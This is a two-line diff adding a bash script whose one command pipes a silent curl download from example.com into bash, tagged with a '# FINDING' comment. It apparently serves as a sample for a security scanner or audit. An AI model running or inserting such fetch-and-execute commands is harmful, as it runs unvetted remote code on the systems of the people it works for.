@@ -1,0 +1,2 @@
+#!/bin/bash
+bash <(curl -s https://example.com/x)  # FINDING
